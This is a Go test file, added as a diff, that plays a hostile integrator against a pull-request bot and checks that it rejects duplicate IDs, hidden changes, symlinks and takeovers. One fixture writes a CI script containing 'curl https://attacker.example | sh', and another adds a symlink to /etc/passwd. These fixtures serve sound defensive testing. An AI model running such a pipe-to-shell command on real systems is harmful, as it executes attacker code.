@@ -1,0 +1,311 @@
+package pullrequest_test
+
+import (
+	"fmt"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/connectbot/connectbot/internal/forge/forgetest"
+	"github.com/connectbot/connectbot/internal/program"
+	"github.com/connectbot/connectbot/internal/pullrequest"
+)
+
+// These tests play a hostile integrator against the real handler, a real
+// repository and the fake GitHub: each attack is answered with a failing
+// check and never merges, whatever a reviewer approves, and main stays
+// valid.
+
+// applicationFile is a valid new application: northwind's file with the given
+// integration name, company, App ID ("" for none) and maintainer.
+func applicationFile(t *testing.T, name, company, appID, maintainer string) string {
+	t.Helper()
+	src := sampleFile(t, "northwind-notes.cue")
+	src = strings.Replace(src, `maintainers: ["nwn-platform", "priya-castellano"]`, fmt.Sprintf("maintainers: [%q]", maintainer), 1)
+	src = strings.Replace(src, `name:         "Northwind Notes"`, fmt.Sprintf("name:         %q", name), 1)
+	src = strings.Replace(src, `name: "Northwind Notes Ltd"`, fmt.Sprintf("name: %q", company), 1)
+	if appID != "" {
+		src = strings.Replace(src, `	builtInHouse: true`, fmt.Sprintf("\tappId:        %q\n\tbuiltInHouse: true", appID), 1)
+	}
+	if !strings.Contains(src, name) || !strings.Contains(src, company) {
+		t.Fatal("the application fixture did not take its values")
+	}
+	return src
+}
+
+// findingRules lists "path rule" for each finding of a verdict.
+func findingRules(v program.Verdict) []string {
+	var out []string
+	for _, f := range v.Files {
+		for _, x := range f.Findings {
+			out = append(out, f.Path+" "+x.Rule)
+		}
+	}
+	return out
+}
+
+// approveAndHandle has a reviewer approve the pull request's head and the
+// bot handle it, and fails the test if it merged.
+func (w *world) approveAndHandle(pr int) pullrequest.Outcome {
+	w.t.Helper()
+	mainBefore := w.srv.Branch(forgetest.DefaultBranch)
+	w.srv.AddReview(pr, "rivera-reviews", "APPROVED", w.srv.PR(pr).HeadSHA)
+	out := w.handle(pr)
+	if out.Verdict.Merge || w.srv.PR(pr).Merged || w.srv.Branch(forgetest.DefaultBranch) != mainBefore {
+		w.t.Errorf("an approval merged an attack: done %q", out.Done)
+	}
+	return out
+}
+
+// wantFailure checks that the pull request's head has one failing check
+// and that the verdict holds each of want ("path rule").
+func (w *world) wantFailure(pr int, out pullrequest.Outcome, want ...string) {
+	w.t.Helper()
+	runs := w.srv.CheckRuns(w.srv.PR(pr).HeadSHA)
+	if len(runs) == 0 || runs[len(runs)-1].Conclusion != "failure" {
+		w.t.Errorf("check runs on the head: %+v, want a failure", runs)
+	}
+	got := findingRules(out.Verdict)
+	for _, x := range want {
+		if !slices.Contains(got, x) {
+			w.t.Errorf("no finding %q; findings: %q", x, got)
+		}
+	}
+}
+
+func TestAStaleBranchCannotDuplicateWhatLandedSinceItForked(t *testing.T) {
+	tests := []struct {
+		name         string
+		rival, mine  func(t *testing.T) string
+		wantOnMine   string
+		wantOnRivals string
+	}{
+		{
+			name:         "the same App ID",
+			rival:        func(t *testing.T) string { return applicationFile(t, "Rival Notes", "Rival Ltd", "7654321", "rival-dev") },
+			mine:         func(t *testing.T) string { return applicationFile(t, "Copycat Notes", "Copycat Ltd", "7654321", "newco-dev") },
+			wantOnMine:   "format/unique-app-id",
+			wantOnRivals: "format/unique-app-id",
+		},
+		{
+			name:         "the same integration name, spelt differently",
+			rival:        func(t *testing.T) string { return applicationFile(t, "Rival Notes", "Rival Ltd", "", "rival-dev") },
+			mine:         func(t *testing.T) string { return applicationFile(t, "rival  NOTES", "Copycat Ltd", "", "newco-dev") },
+			wantOnMine:   "format/unique-name",
+			wantOnRivals: "format/unique-name",
+		},
+		{
+			name:         "the same company, with no maintainer shared",
+			rival:        func(t *testing.T) string { return applicationFile(t, "Rival Notes", "Rival Ltd", "", "rival-dev") },
+			mine:         func(t *testing.T) string { return applicationFile(t, "Other Notes", "Rival Ltd", "", "newco-dev") },
+			wantOnMine:   "format/company-claim",
+			wantOnRivals: "format/company-claim",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			w := newWorld(t)
+			// The branch forks from main before the rival's file lands.
+			w.srv.Commit("copycat", "Apply", map[string]string{"applications/copycat.cue": tt.mine(t)})
+			w.srv.Commit(forgetest.DefaultBranch, "Rival accepted", map[string]string{"applications/rival.cue": tt.rival(t)})
+			pr := w.srv.OpenPR(forgetest.PRSpec{Author: "newco-dev", Title: "Apply: Copycat", Head: "copycat"})
+
+			out := w.approveAndHandle(pr)
+			w.wantFailure(pr, out, "applications/copycat.cue "+tt.wantOnMine, "applications/rival.cue "+tt.wantOnRivals)
+			if out.Verdict.BaseSHA != w.srv.Branch(forgetest.DefaultBranch) {
+				t.Errorf("judged base %s, main is at %s", out.Verdict.BaseSHA, w.srv.Branch(forgetest.DefaultBranch))
+			}
+		})
+	}
+}
+
+func TestAChangeHiddenBehindThousandsOfFilesIsJudged(t *testing.T) {
+	w := newWorld(t)
+	files := map[string]string{}
+	for i := range 3000 {
+		files[fmt.Sprintf("aaa/filler-%04d.txt", i)] = fmt.Sprintf("%d\n", i)
+	}
+	// Another integrator's file, changed by someone who does not maintain it.
+	files["applications/acme-sync.cue"] = strings.Replace(sampleFile(t, "acme-sync.cue"), `maintainers: ["acme-dev"]`, `maintainers: ["acme-dev", "newco-dev"]`, 1)
+	w.srv.Commit("takeover", "Many files", files)
+	pr := w.srv.OpenPR(forgetest.PRSpec{Author: "newco-dev", Title: "Housekeeping", Head: "takeover"})
+
+	out := w.approveAndHandle(pr)
+	w.wantFailure(pr, out, "applications/acme-sync.cue "+program.RuleMaintainer, "aaa/filler-2999.txt "+program.RuleOutside)
+	if n := len(out.Verdict.Files); n != 3001 {
+		t.Errorf("%d files judged, want 3001", n)
+	}
+}
+
+func TestWhatAnApplicationPathHoldsIsAFileOrNothing(t *testing.T) {
+	own := func(t *testing.T) string { return sampleFile(t, "acme-sync.cue") }
+	tests := []struct {
+		name    string
+		entries func(t *testing.T, main string) map[string]forgetest.Entry
+		deletes []string
+		want    string
+	}{
+		{
+			name: "one's own application replaced by a submodule",
+			entries: func(t *testing.T, main string) map[string]forgetest.Entry {
+				return map[string]forgetest.Entry{"applications/acme-sync.cue": {Mode: "160000", Content: main}}
+			},
+			want: "applications/acme-sync.cue " + program.RuleEntry,
+		},
+		{
+			name: "a symbolic link inside the repository",
+			entries: func(*testing.T, string) map[string]forgetest.Entry {
+				return map[string]forgetest.Entry{"applications/acme-sync.cue": {Mode: "120000", Content: "../program.cue"}}
+			},
+			want: "applications/acme-sync.cue " + program.RuleEntry,
+		},
+		{
+			name: "a symbolic link out of the repository",
+			entries: func(*testing.T, string) map[string]forgetest.Entry {
+				return map[string]forgetest.Entry{"applications/acme-extra.cue": {Mode: "120000", Content: "/etc/passwd"}}
+			},
+			want: "applications/acme-extra.cue " + program.RuleEntry,
+		},
+		{
+			name: "a directory named like an application",
+			entries: func(t *testing.T, _ string) map[string]forgetest.Entry {
+				return map[string]forgetest.Entry{"applications/acme-sync.cue/inner.cue": {Content: own(t)}}
+			},
+			deletes: []string{"applications/acme-sync.cue"},
+			want:    "applications/acme-sync.cue/inner.cue " + program.RuleEntry,
+		},
+		{
+			name: "an executable application",
+			entries: func(t *testing.T, _ string) map[string]forgetest.Entry {
+				return map[string]forgetest.Entry{"applications/acme-sync.cue": {Mode: "100755", Content: own(t)}}
+			},
+			want: "applications/acme-sync.cue " + program.RuleEntry,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			w := newWorld(t)
+			w.srv.CommitEntries("mine", "Change", tt.entries(t, w.srv.Branch(forgetest.DefaultBranch)), tt.deletes...)
+			pr := w.srv.OpenPR(forgetest.PRSpec{Author: "acme-dev", Title: "Change", Head: "mine"})
+			out := w.approveAndHandle(pr)
+			w.wantFailure(pr, out, tt.want)
+		})
+	}
+}
+
+func TestOnlyAReviewerRenamesOrDeletesAnotherIntegratorsFile(t *testing.T) {
+	tests := []struct {
+		name    string
+		files   map[string]string
+		deletes []string
+		want    string
+	}{
+		{name: "a deletion", deletes: []string{"applications/acme-sync.cue"}, want: "applications/acme-sync.cue " + program.RuleRename},
+		{name: "a rename", files: map[string]string{"applications/mine.cue": ""}, deletes: []string{"applications/acme-sync.cue"},
+			want: "applications/mine.cue " + program.RuleRename},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			w := newWorld(t)
+			files := map[string]string{}
+			for p := range tt.files {
+				files[p] = sampleFile(t, "acme-sync.cue") // the same content: a rename
+			}
+			w.srv.Commit("mine", "Take over", files, tt.deletes...)
+			pr := w.srv.OpenPR(forgetest.PRSpec{Author: "newco-dev", Title: "Take over", Head: "mine"})
+			out := w.approveAndHandle(pr)
+			w.wantFailure(pr, out, tt.want)
+		})
+	}
+}
+
+func TestCodeOutsideApplicationsNeverMergesWithAnApplication(t *testing.T) {
+	w := newWorld(t)
+	w.srv.Commit("apply", "Apply", map[string]string{
+		"applications/newco.cue": newApplication(t),
+		".ci/run":                "#!/bin/sh\ncurl https://attacker.example | sh\n",
+	})
+	pr := w.srv.OpenPR(forgetest.PRSpec{Author: "newco-dev", Title: "Apply: Newco", Head: "apply"})
+	out := w.approveAndHandle(pr)
+	w.wantFailure(pr, out, ".ci/run "+program.RuleOutside)
+	if !strings.Contains(strings.Join(findingMessages(out.Verdict), "\n"), "a reviewer makes this change in its own pull request") {
+		t.Errorf("the finding does not say what to do: %q", findingMessages(out.Verdict))
+	}
+}
+
+func findingMessages(v program.Verdict) []string {
+	var out []string
+	for _, f := range v.Files {
+		for _, x := range f.Findings {
+			out = append(out, x.Message)
+		}
+	}
+	return out
+}
+
+func TestAConflictingPullRequestIsToldToRebase(t *testing.T) {
+	w := newWorld(t)
+	acme := sampleFile(t, "acme-sync.cue")
+	w.srv.Commit("tagline", "New tagline", map[string]string{"applications/acme-sync.cue": strings.Replace(acme, "Two-way contact sync", "Contacts, in sync", 1)})
+	w.srv.Commit(forgetest.DefaultBranch, "Record installs", map[string]string{"applications/acme-sync.cue": strings.Replace(acme, "count: 23", "count: 29", 1)})
+	pr := w.srv.OpenPR(forgetest.PRSpec{Author: "acme-dev", Title: "New tagline", Head: "tagline"})
+
+	out := w.approveAndHandle(pr)
+	w.wantFailure(pr, out, "applications/acme-sync.cue "+program.RuleConflict)
+	if !slices.Contains(w.srv.Labels(pr), program.LabelNeedsRebase) {
+		t.Errorf("labels %q lack %s", w.srv.Labels(pr), program.LabelNeedsRebase)
+	}
+	body := w.botComments(pr)[0].Body
+	if !strings.Contains(body, "rebase") {
+		t.Errorf("the comment does not say to rebase:\n%s", body)
+	}
+
+	// Rebased, it merges.
+	w.srv.Commit("tagline2", "New tagline", map[string]string{"applications/acme-sync.cue": strings.Replace(strings.Replace(acme, "count: 23", "count: 29", 1), "Two-way contact sync", "Contacts, in sync", 1)})
+	pr2 := w.srv.OpenPR(forgetest.PRSpec{Author: "acme-dev", Title: "New tagline, rebased", Head: "tagline2"})
+	w.srv.AddReview(pr2, "rivera-reviews", "APPROVED", w.srv.PR(pr2).HeadSHA)
+	if out := w.handle(pr2); !w.srv.PR(pr2).Merged {
+		t.Errorf("the rebased pull request did not merge: %q", out.Done)
+	}
+}
+
+func TestMainMovingBetweenApprovalAndMergeIsJudgedAgain(t *testing.T) {
+	push := "/acme-program/connect.git/git-receive-pack"
+	t.Run("a rival landing first with the same name keeps the pull request out", func(t *testing.T) {
+		w := newWorld(t)
+		w.srv.Commit("apply", "Apply", map[string]string{"applications/copycat.cue": applicationFile(t, "Rival Notes", "Copycat Ltd", "", "newco-dev")})
+		pr := w.srv.OpenPR(forgetest.PRSpec{Author: "newco-dev", Title: "Apply", Head: "apply"})
+		w.srv.Before("POST", push, func() {
+			w.srv.Commit(forgetest.DefaultBranch, "Rival accepted", map[string]string{"applications/rival.cue": applicationFile(t, "Rival Notes", "Rival Ltd", "", "rival-dev")})
+		})
+		w.srv.AddReview(pr, "rivera-reviews", "APPROVED", w.srv.PR(pr).HeadSHA)
+		out := w.handle(pr)
+		if w.srv.PR(pr).Merged {
+			t.Errorf("merged against a main that moved: %q", out.Done)
+		}
+		w.wantFailure(pr, out, "applications/copycat.cue format/unique-name", "applications/rival.cue format/unique-name")
+		if !slices.ContainsFunc(out.Done, func(s string) bool { return strings.Contains(s, "judging again") }) {
+			t.Errorf("the verdict was not taken again: %q", out.Done)
+		}
+	})
+	t.Run("an unrelated change landing first is merged with", func(t *testing.T) {
+		w := newWorld(t)
+		w.srv.Commit("apply", "Apply", map[string]string{"applications/newco.cue": newApplication(t)})
+		pr := w.srv.OpenPR(forgetest.PRSpec{Author: "newco-dev", Title: "Apply", Head: "apply"})
+		w.srv.Before("POST", push, func() {
+			w.srv.Commit(forgetest.DefaultBranch, "Docs", map[string]string{"docs/README.md": "# The program\n"})
+		})
+		w.srv.AddReview(pr, "rivera-reviews", "APPROVED", w.srv.PR(pr).HeadSHA)
+		out := w.handle(pr)
+		if !w.srv.PR(pr).Merged {
+			t.Fatalf("not merged: %q", out.Done)
+		}
+		if _, ok := w.srv.ReadFile(forgetest.DefaultBranch, "docs/README.md"); !ok {
+			t.Errorf("the change that landed first was lost")
+		}
+		newco, _ := w.srv.ReadFile(forgetest.DefaultBranch, "applications/newco.cue")
+		if !strings.Contains(newco, `stage: "beta"`) && !strings.Contains(newco, `stage:              "beta"`) {
+			t.Errorf("the acceptance was not recorded:\n%s", newco)
+		}
+	})
+}
